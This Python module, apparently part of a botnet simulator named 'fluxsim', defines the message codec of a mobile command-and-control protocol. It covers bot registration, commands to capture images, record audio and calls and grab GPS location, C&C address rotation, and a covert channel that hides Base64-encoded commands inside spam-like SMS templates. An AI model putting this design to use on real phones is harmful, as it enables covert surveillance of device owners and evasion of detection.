"""C&C wire messages, their frame codec, and the SMS command channel.

Frame layout: one tag byte, a big-endian u32 body length, then the body as
canonical JSON (sorted keys, compact separators, UTF-8). Messages without
fields carry an empty body.
"""

import base64
import binascii
import json
import logging
import os
import struct
from dataclasses import dataclass, field, fields
from enum import Enum
from functools import lru_cache
from typing import Any, ClassVar, Dict, List, Optional, Sequence, Tuple, Type, Union

from fluxsim.core.config import SMS_MAX_CHARS
from fluxsim.core.errors import ConfigError, DecodeError, EncodingError, ValidationError
from fluxsim.core.rng import fnv1a64

logger = logging.getLogger(__name__)

HEADER = struct.Struct(">BI")
PARAM_SLOT = "{P}"


class CommandKind(str, Enum):
    CAPTURE_IMAGE = "CAPTURE_IMAGE"
    RECORD_AUDIO = "RECORD_AUDIO"
    RECORD_VOICE_CALL = "RECORD_VOICE_CALL"
    GRAB_GPS_LOCATION = "GRAB_GPS_LOCATION"


def _params(value: Dict[str, str]) -> Dict[str, str]:
    return {str(k): str(v) for k, v in dict(value).items()}


@dataclass(frozen=True)
class SRR:
    TAG: ClassVar[int] = 1
    device_id: str
    device_details: Dict[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class RGR:
    TAG: ClassVar[int] = 2
    device_id: str
    assigned_bot_id: int


@dataclass(frozen=True)
class DCR:
    TAG: ClassVar[int] = 3
    bot_id: int
    bot_ip: str


@dataclass(frozen=True)
class Command:
    TAG: ClassVar[int] = 4
    command_kind: CommandKind
    timestamp: int
    params: Dict[str, str]
    upload_ip: str


@dataclass(frozen=True)
class NothingForYou:
    TAG: ClassVar[int] = 5


@dataclass(frozen=True)
class RCIPB:
    TAG: ClassVar[int] = 6
    bot_id: int
    new_ip: str


@dataclass(frozen=True)
class RCAd:
    TAG: ClassVar[int] = 7
    new_server_address: str


@dataclass(frozen=True)
class PublishCommand:
    """Publication ``timestamp`` replaces any earlier rows for it; no targets retracts them."""

    TAG: ClassVar[int] = 8
    targets: Tuple[Tuple[int, str], ...]
    command_kind: CommandKind
    params: Dict[str, str]
    timestamp: int

    def __post_init__(self):
        object.__setattr__(self, "targets", tuple((int(b), str(ip)) for b, ip in self.targets))


@dataclass(frozen=True)
class Upload:
    TAG: ClassVar[int] = 9
    bot_id: int
    unique_id: str
    payload_bytes: int
    compressed: bool


@dataclass(frozen=True)
class UploadAck:
    TAG: ClassVar[int] = 10
    unique_id: str


@dataclass(frozen=True)
class SpamSms:
    TAG: ClassVar[int] = 11
    template_text: str


Message = Union[SRR, RGR, DCR, Command, NothingForYou, RCIPB, RCAd, PublishCommand, Upload, UploadAck, SpamSms]

MESSAGE_TYPES: Dict[int, Type] = {
    cls.TAG: cls
    for cls in (SRR, RGR, DCR, Command, NothingForYou, RCIPB, RCAd, PublishCommand, Upload, UploadAck, SpamSms)
}

# Wire kind per field, checked on decode.
FIELD_KINDS: Dict[str, str] = {
    "device_id": "text",
    "device_details": "map",
    "assigned_bot_id": "int",
    "bot_id": "int",
    "bot_ip": "text",
    "command_kind": "kind",
    "timestamp": "int",
    "params": "map",
    "upload_ip": "text",
    "new_ip": "text",
    "new_server_address": "text",
    "targets": "targets",
    "unique_id": "text",
    "payload_bytes": "int",
    "compressed": "bool",
    "template_text": "text",
}


def message_name(msg: Message) -> str:
    return type(msg).__name__


def _to_wire(name: str, value: Any) -> Any:
    kind = FIELD_KINDS[name]
    if kind == "kind":
        return CommandKind(value).value
    if kind == "targets":
        return [[bot_id, ip] for bot_id, ip in value]
    if kind == "map":
        return _params(value)
    return value


def encode(msg: Message) -> bytes:
    body = {f.name: _to_wire(f.name, getattr(msg, f.name)) for f in fields(msg)}
    raw = json.dumps(body, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode("utf-8") if body else b""
    return HEADER.pack(msg.TAG, len(raw)) + raw


def _from_wire(name: str, value: Any, offset: int) -> Any:
    kind = FIELD_KINDS[name]
    if kind == "text" and isinstance(value, str):
        return value
    if kind == "int" and isinstance(value, int) and not isinstance(value, bool):
        return value
    if kind == "bool" and isinstance(value, bool):
        return value
    if kind == "map" and isinstance(value, dict) and all(isinstance(v, str) for v in value.values()):
        return value
    if kind == "kind" and isinstance(value, str):
        try:
            return CommandKind(value)
        except ValueError:
            raise DecodeError(f"unknown command kind {value!r}", offset)
    if kind == "targets" and isinstance(value, list):
        rows = []
        for row in value:
            if (not isinstance(row, list) or len(row) != 2 or not isinstance(row[0], int)
                    or isinstance(row[0], bool) or not isinstance(row[1], str)):
                raise DecodeError("malformed target row", offset)
            rows.append((row[0], row[1]))
        return tuple(rows)
    raise DecodeError(f"field {name!r} has the wrong type", offset)


def decode(data: bytes) -> Message:
    if len(data) < 1:
        raise DecodeError("empty frame", 0)
    tag = data[0]
    cls = MESSAGE_TYPES.get(tag)
    if cls is None:
        raise DecodeError(f"unknown tag {tag}", 0)
    if len(data) < HEADER.size:
        raise DecodeError("truncated header", len(data))
    _, length = HEADER.unpack_from(data)
    body = data[HEADER.size:]
    if len(body) < length:
        raise DecodeError(f"truncated body: expected {length} bytes", len(data))
    if len(body) > length:
        raise DecodeError("trailing bytes after body", HEADER.size + length)

    expected = [f.name for f in fields(cls)]
    if length == 0:
        payload: Dict[str, Any] = {}
    else:
        try:
            payload = json.loads(body.decode("utf-8"))
        except UnicodeDecodeError as e:
            raise DecodeError("body is not UTF-8", HEADER.size + e.start)
        except json.JSONDecodeError as e:
            raise DecodeError(f"malformed body: {e.msg}", HEADER.size + e.pos)
    if not isinstance(payload, dict) or set(payload) != set(expected):
        raise DecodeError(f"body fields do not match {cls.__name__}", HEADER.size)
    return cls(**{name: _from_wire(name, payload[name], HEADER.size) for name in expected})


# --- Unique ids -------------------------------------------------------------

def make_unique_id(device_id: str, timestamp: int) -> str:
    if not device_id:
        raise ValidationError("device_id is empty")
    if "-" in device_id:
        raise ValidationError(f"device_id {device_id!r} contains the reserved separator '-'")
    return f"{device_id}-{int(timestamp)}"


def parse_unique_id(text: str) -> Tuple[str, int]:
    device_id, sep, stamp = text.partition("-")
    if not sep or not device_id or not stamp.isdigit():
        raise ValidationError(f"not a unique id: {text!r}")
    return device_id, int(stamp)


# --- SMS command channel ----------------------------------------------------

def encode_params(params: Dict[str, str]) -> str:
    """Canonical ``key=value`` pairs sorted by key, joined with ``;``."""
    parts = []
    for key in sorted(params):
        value = str(params[key])
        if not key or "=" in key or ";" in key:
            raise ValidationError(f"invalid parameter name {key!r}")
        if ";" in value:
            raise ValidationError(f"parameter {key!r} contains ';'")
        parts.append(f"{key}={value}")
    return ";".join(parts)


def decode_params(text: str) -> Dict[str, str]:
    params: Dict[str, str] = {}
    if not text:
        return params
    offset = 0
    for pair in text.split(";"):
        key, sep, value = pair.partition("=")
        if not sep or not key:
            raise DecodeError(f"malformed parameter {pair!r}", offset)
        params[key] = value
        offset += len(pair) + 1
    return params


def b64_text(text: str) -> str:
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


def canonical_text(text: str) -> str:
    return " ".join(text.lower().split())


def template_hash(template: str) -> int:
    tokens = [t for t in template.split() if t != PARAM_SLOT]
    return fnv1a64(canonical_text(" ".join(tokens)))


@dataclass
class SmsTemplateTable:
    entries: List[Tuple[str, CommandKind]] = field(default_factory=list)
    index: Dict[int, CommandKind] = field(default_factory=dict)

    def add(self, template: str, kind: CommandKind) -> None:
        tokens = template.split()
        if tokens.count(PARAM_SLOT) != 1 or template.count(PARAM_SLOT) != 1:
            raise ConfigError(f"template must hold exactly one standalone {PARAM_SLOT} slot: {template!r}")
        kind = CommandKind(kind)
        h = template_hash(template)
        existing = self.index.get(h)
        if existing is not None and existing is not kind:
            raise ConfigError(f"template {template!r} already maps to {existing.value}")
        self.entries.append((template, kind))
        self.index[h] = kind

    def templates_for(self, kind: CommandKind) -> List[str]:
        return [text for text, k in self.entries if k is CommandKind(kind)]

    @classmethod
    def parse(cls, text: str, source: str = "<templates>") -> "SmsTemplateTable":
        table = cls()
        for lineno, line in enumerate(text.splitlines(), 1):
            if not line.strip() or line.lstrip().startswith("#"):
                continue
            kind_name, sep, template = line.partition("\t")
            if not sep:
                raise ConfigError("expected COMMAND_KIND<TAB>template", path=f"{source}:{lineno}")
            try:
                kind = CommandKind(kind_name.strip())
            except ValueError:
                raise ConfigError(f"unknown command kind {kind_name.strip()!r}", path=f"{source}:{lineno}")
            table.add(template.strip(), kind)
        return table

    @classmethod
    def load(cls, path: str) -> "SmsTemplateTable":
        try:
            with open(path, "r", encoding="utf-8") as f:
                return cls.parse(f.read(), source=path)
        except OSError as e:
            raise ConfigError(f"cannot read template table: {e}", path=path)

    @classmethod
    def default(cls) -> "SmsTemplateTable":
        from fluxsim.core.config_loader import TEMPLATES_PATH

        return cls.load(TEMPLATES_PATH)


@lru_cache(maxsize=1)
def default_templates() -> SmsTemplateTable:
    """The bundled table, loaded once and shared read-only."""
    return SmsTemplateTable.default()


def render_sms(template: str, params: Dict[str, str]) -> str:
    slot = b64_text(encode_params(params)) if params else ""
    rendered = template.replace(PARAM_SLOT, slot)
    if len(rendered) > SMS_MAX_CHARS:
        raise EncodingError(f"SMS is {len(rendered)} characters, limit is {SMS_MAX_CHARS}")
    return rendered


def sms_encode(cmd: CommandKind, params: Dict[str, str], table: SmsTemplateTable, rng) -> SpamSms:
    templates = table.templates_for(cmd)
    if not templates:
        raise EncodingError(f"no template for {CommandKind(cmd).value}")
    template = templates[rng.next() % len(templates)]
    return SpamSms(render_sms(template, params))


def _slot_offset(text: str, tokens: Sequence[str], position: int) -> int:
    offset = 0
    for i, token in enumerate(tokens):
        offset = text.index(token, offset)
        if i == position:
            return offset
        offset += len(token)
    return 0


def _decode_slot(slot: str, offset: int) -> Dict[str, str]:
    try:
        raw = base64.b64decode(slot, validate=True)
    except (binascii.Error, ValueError):
        raise DecodeError(f"invalid Base64 slot {slot!r}", offset)
    try:
        return decode_params(raw.decode("utf-8"))
    except UnicodeDecodeError:
        raise DecodeError("slot is not UTF-8 text", offset)


def sms_decode(sms: SpamSms, table: SmsTemplateTable) -> Optional[Tuple[CommandKind, Dict[str, str]]]:
    """Return (kind, params), or None when the text is ordinary spam."""
    tokens = sms.template_text.split()
    kind = table.index.get(fnv1a64(canonical_text(" ".join(tokens))))
    if kind is not None:
        return kind, {}
    for i, slot in enumerate(tokens):
        rest = tokens[:i] + tokens[i + 1:]
        kind = table.index.get(fnv1a64(canonical_text(" ".join(rest))))
        if kind is not None:
            return kind, _decode_slot(slot, _slot_offset(sms.template_text, tokens, i))
    return None


def load_templates(path: Optional[str] = None) -> SmsTemplateTable:
    if path and os.path.exists(path):
        return SmsTemplateTable.load(path)
    if path:
        raise ConfigError("template table not found", path=path)
    return SmsTemplateTable.default()
